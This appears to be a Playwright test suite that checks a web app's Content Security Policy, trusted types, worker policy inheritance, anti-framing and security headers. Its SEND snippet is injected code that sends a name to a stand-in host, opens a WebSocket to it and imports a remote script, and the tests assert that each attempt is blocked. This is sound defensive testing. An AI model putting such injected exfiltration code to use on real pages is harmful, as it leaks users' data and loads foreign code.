import { type BrowserContext, expect, test } from '@playwright/test';
import { findings } from './steps';
import { shellStored } from './support/offline';
import { readBuild } from './support/second-build';
import { startSite } from './support/site';
import { violatingActs } from './support/violating-acts';

const WITHOUT_TRUSTED_TYPES = {
  'script in the page': 'script-src-elem',
  'script from elsewhere': 'script-src-elem',
  'script from data': 'script-src-elem',
  'text as program': 'script-src',
  'text as function': 'script-src',
  'markup with a handler': 'script-src-attr',
  'javascript: address': 'script-src-elem',
  'style attribute': 'style-src-attr',
  'style sheet from elsewhere': 'style-src-elem',
  'fetch elsewhere': 'connect-src',
  'beacon elsewhere': 'connect-src',
  'socket elsewhere': 'connect-src',
  'events from elsewhere': 'connect-src',
  'picture from elsewhere': 'img-src',
  'sound from elsewhere': 'media-src',
  'font from elsewhere': 'font-src',
  'frame, of this site too': 'frame-src',
  'object, of this site too': 'object-src',
  // It runs, but under the policy of the page: see below.
  'worker from text': 'unstopped',
  'form, to this site too': 'form-action',
  'other base for addresses': 'base-uri',
};

const TRUSTED_TYPES = 'require-trusted-types-for';

const STOPPED_BY = {
  ...WITHOUT_TRUSTED_TYPES,
  'script in the page': TRUSTED_TYPES,
  'text as program': TRUSTED_TYPES,
  'text as function': TRUSTED_TYPES,
  'markup with a handler': TRUSTED_TYPES,
  'worker from text': TRUSTED_TYPES,
  'address of a worker elsewhere': TRUSTED_TYPES,
};

/** Whether an address is this site's, or a blob of its page. */
const isOwn = (url: string) => /^(?:blob:)?http:\/\/localhost:/.test(url);

/** The requests to other sites that a context makes from now on and the policy does not stop. */
function sentElsewhere(context: BrowserContext): string[] {
  const sent: string[] = [];
  context.on('requestfinished', (request) => isOwn(request.url()) || sent.push(request.url()));
  context.on('requestfailed', (request) => {
    if (!isOwn(request.url()) && request.failure()?.errorText !== 'csp') sent.push(request.url());
  });
  return sent;
}

/** Runs every violating act on a page. @returns what stopped each, and the requests to other sites that the policy did not stop */
async function attempt(context: BrowserContext, address: string) {
  const sent = sentElsewhere(context);
  const page = await context.newPage();
  await page.goto(address);
  return { stoppedBy: await page.evaluate(violatingActs), sent };
}

test.describe('the policy', () => {
  test.use({ serviceWorkers: 'block' });

  test('whatever would run a script or send something is stopped by the policy in the headers and the page', async ({
    context,
  }) => {
    expect(await attempt(context, '/')).toEqual({ stoppedBy: STOPPED_BY, sent: [] });
  });

  test('whatever would run a script or send something is stopped by the policy in the page alone, if the host sends no headers', async ({
    context,
  }) => {
    const site = await startSite(readBuild());
    expect(await attempt(context, site.origin)).toEqual({ stoppedBy: STOPPED_BY, sent: [] });
    site.close();
  });

  test('whatever would run a script or send something is stopped by other directives, if the browser has no trusted types', async ({
    context,
  }) => {
    const build = readBuild();
    const page = String(build.get('index.html')).replace(/; require-trusted-types-for .*?default/, '');
    const site = await startSite(new Map([...build, ['index.html', Buffer.from(page)]]));
    const stoppedBy = { ...WITHOUT_TRUSTED_TYPES, 'address of a worker elsewhere': 'SecurityError' };
    expect(await attempt(context, site.origin)).toEqual({ stoppedBy, sent: [] });
    site.close();
  });
});

const SEND = `(async () => {
  const outcome = (act) => Promise.resolve().then(act).then(() => 'sent', ({ name }) => name);
  const socket = () => new Promise((open, refuse) => {
    const tried = new WebSocket('ws://elsewhere.example/');
    tried.onopen = open;
    tried.onerror = () => refuse(new Error());
  });
  return [
    await outcome(() => fetch('http://elsewhere.example/?name=Kowalski', { mode: 'no-cors' })),
    await outcome(socket),
    await outcome(() => import('http://elsewhere.example/x.js')),
    await outcome(() => eval('1')),
    self.violations,
  ];
})()`;

test.describe('on a host that sends no headers, before anything is stored', () => {
  test.use({ serviceWorkers: 'block' });

  test('every worker has the policy of the page: code injected into it can neither send nor connect', async ({
    context,
  }) => {
    const site = await startSite(readBuild());
    const sent = sentElsewhere(context);
    const page = await context.newPage();
    await page.goto(site.origin);
    await expect(findings(page).first()).toBeVisible();
    expect(page.workers().length).toBeGreaterThan(0);
    for (const worker of page.workers()) {
      await worker.evaluate(() => {
        const told = self as unknown as { violations: string[] };
        told.violations = [];
        self.addEventListener('securitypolicyviolation', (event) =>
          told.violations.push((event as SecurityPolicyViolationEvent).effectiveDirective),
        );
      });
      const [request, socket, program, text, violations] = (await worker.evaluate(SEND)) as string[];
      expect([request, socket, program, text]).not.toContain('sent');
      expect(violations).toEqual(expect.arrayContaining(['connect-src']));
    }
    expect(sent).toEqual([]);
    site.close();
  });
});

test('no other site can frame the app', async ({ page, baseURL }) => {
  const other = Buffer.from(`<!doctype html><iframe src="${baseURL}"></iframe>`);
  const site = await startSite(new Map([['index.html', other]]));
  await page.goto(site.origin);
  await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
  site.close();
});

test.describe('once it is stored', () => {
  test.use({ serviceWorkers: 'allow' });

  test('on a host that sends no headers the app works, and once it is stored it adds them itself', async ({ page }) => {
    const site = await startSite(readBuild());
    await page.goto(site.origin);
    await expect(findings(page).first()).toBeVisible();
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(false);
    await shellStored(page);
    const response = await page.reload();
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
    expect(response?.headers()).toMatchObject({
      'content-security-policy': expect.stringContaining("frame-ancestors 'none'"),
      'cross-origin-embedder-policy': 'require-corp',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
      'permissions-policy': expect.stringContaining('camera=()'),
      'referrer-policy': 'no-referrer',
      'x-content-type-options': 'nosniff',
    });
    await expect(findings(page).first()).toBeVisible();
    site.close();
  });
});
